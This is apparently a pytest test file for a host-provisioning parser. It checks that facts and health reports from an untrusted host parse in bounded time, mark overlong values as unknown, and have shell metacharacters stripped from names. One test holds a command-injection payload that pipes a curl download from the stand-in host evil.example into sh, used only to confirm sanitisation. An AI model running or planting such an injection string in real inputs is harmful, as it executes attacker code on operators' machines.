"""Facts and health of a host that lies: known, or named as unknown, within bounded time."""

from __future__ import annotations

import json
import time
from contextlib import suppress
from typing import Final, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provision.errors import FactsError
from provision.facts import Facts, Health, parse_facts, parse_health
from provision.facts.frame import split
from provision.facts.health import Section
from provision.facts.read import SECTIONS

WORD: Final = "@abcdef0123456789abcdef01"
OS: Final = "ID=debian\nVERSION_ID=13\n\n6.12 x86_64"
MOST: Final = 400_000
LARGE: Final = 8 << 20
HEALTH: Final = get_args(Section)
FLOODS: Final = (
    "-Pk x ", "-Pk x 1 ", "-Pk / 1 1 1 ", "mounted ro /\\0", "\\07", "NVRM: Xid (x", "xid NVRM: Xid (PCI:",
    "oom Killed process 1 (", "LISTEN 1 1 :", "LISTEN 1 1 [::]:1 ", "version ", "NVML library version ",
    "Kernel Module ", "CUDA Version : ", "<gpu ></gpu>", "<gpu id='1'>", "<a>", "--- container [",
    "--- container [[[[[[[[", "--- seen a ", "Id=docker\n", "image|x\n", "tag|x\n", "env|A=", "ii a\n",
    "engine|", "engine|1|a|b|c|", "python3 Python 3.", "0,", "0,u,n,1,b\n", "/sys/\n", "a:\n  Installed: x\n",
    'APT::Periodic::Unattended-Upgrade "', "\n", " ", "\t", "9", "9 ", "x", "{", "[", "\\u", "\udcff", "\x1b[",
    "GPU 0: x (UUID: ", "  Link 0: ", "NVML: ", "module 9", "boot enabled ", "switch\n", "ActiveState=",
)  # fmt: skip


def _answer(**texts: str) -> str:
    return "".join(f"{text}\n{WORD} {name} 0\n" for name, text in texts.items())


def _facts(**texts: str) -> Facts:
    return parse_facts(_answer(**({"os": OS} | texts)), WORD)


@pytest.mark.parametrize("name", [*SECTIONS, *HEALTH])
def test_a_flood_is_read_in_bounded_time(name: str) -> None:
    """As much as a section may say, of each thing that its parser looks for: a second or so each."""
    for piece in FLOODS:
        text = (piece * (MOST // len(piece) + 1))[:MOST]
        begun = time.process_time()
        if name in SECTIONS:
            with suppress(FactsError):
                _facts(**{name: text})
        else:
            parse_health(_answer(**{name: text}), WORD)
        assert time.process_time() - begun < 10, piece


@pytest.mark.parametrize(
    "name", ["memory", "cpu", "disks", "gpus", "docker", "file_systems", "clock"]
)
def test_a_number_without_end_is_none(name: str) -> None:
    """A host has not so much of anything; what reckons with it would fail where others are told."""
    huge = "9" * 4000
    texts = {
        "disks": f"a {huge} 1 {huge} 1% /",
        "gpus": f"0,u,n,{huge},b",
        "docker": f"engine|1.2|/|x|{huge}",
        "file_systems": f"-Pk a {huge} 1 {huge} 1% /",
    }
    text = texts.get(name, huge)
    if name in SECTIONS:
        facts = _facts(**{name: text})
        assert name in facts.unknown
        assert json.dumps(facts.model_dump(mode="json"))
    else:
        assert (
            "number without end" in dict(parse_health(_answer(**{name: text}), WORD).unknown)[name]
        )


EVIL: Final = "x;curl evil.example|sh$(id)`id` &"


def test_what_stands_in_commands_that_are_copied_is_a_name() -> None:
    """A remedy names containers, GPUs and versions, and is pasted into the operator's own shell."""
    row = [*("a", f"/{EVIL}", "i", "running", "none", 0, 0, False, "", "", "", None, [])]
    health = parse_health(
        _answer(
            engine=f"--- container {json.dumps(row)}",
            kernel=f"readable\nxid NVRM: Xid ({EVIL[:9]}): 79, x",
            gpu_health=f'<gpu id="{EVIL.replace("&", "")}"></gpu></nvidia_smi_log>',
        ),
        WORD,
    )
    driver = f"module {EVIL}\nNVML library version: {EVIL}\nstatus 0"
    facts = _facts(gpus=f"0,u,n,1,{EVIL}", driver=driver)
    assert health.engine is not None
    assert health.kernel is not None
    assert health.gpu_health is not None
    assert facts.driver is not None
    words = [
        health.engine.containers[0].name,
        health.kernel.xids[0].bus_id,
        health.gpu_health[0].bus_id,
        facts.gpus[0].bus_id,
    ]
    words += [facts.driver.kernel_module or "", facts.driver.library or ""]
    assert not set("".join(words)) & set(";|$(`&<> ")


def test_a_section_that_says_more_than_it_can_is_unknown() -> None:
    """The script cuts it on the host; a host that answers more did not run the script."""
    answer = split(_answer(cpu="1", memory="2\n" * MOST), WORD, ("cpu", "memory"), 8)
    assert answer.texts == {"cpu": "1"}
    assert "longer than 400 kB" in answer.unknown["memory"]


@pytest.mark.parametrize(
    "piece", [f"\n{WORD} ", f"\n{WORD} os 0\n", f"\n{WORD} os 9", f"{WORD}\n", "\n"]
)
def test_an_answer_of_marks_alone_is_read_in_one_pass(piece: str) -> None:
    """8 MiB of them."""
    with pytest.raises(FactsError, match="cannot be told"):
        parse_facts(piece * (LARGE // len(piece)), WORD)


PIECES: Final = st.sampled_from(
    [*FLOODS, "\n", OS, *(f"\n{WORD} {name} {status}\n" for name in ("os", "cpu", "clock", "x") for status in (0, 1, 141))]
)  # fmt: skip


@given(st.lists(PIECES, max_size=15).map("".join))
def test_any_answer_is_facts_or_one_error(said: str) -> None:
    """Half marks, marks of no section, the same section twice: never another exception."""
    assert isinstance(parse_health(said, WORD), Health)
    with suppress(FactsError):
        assert isinstance(parse_facts(said, WORD), Facts)
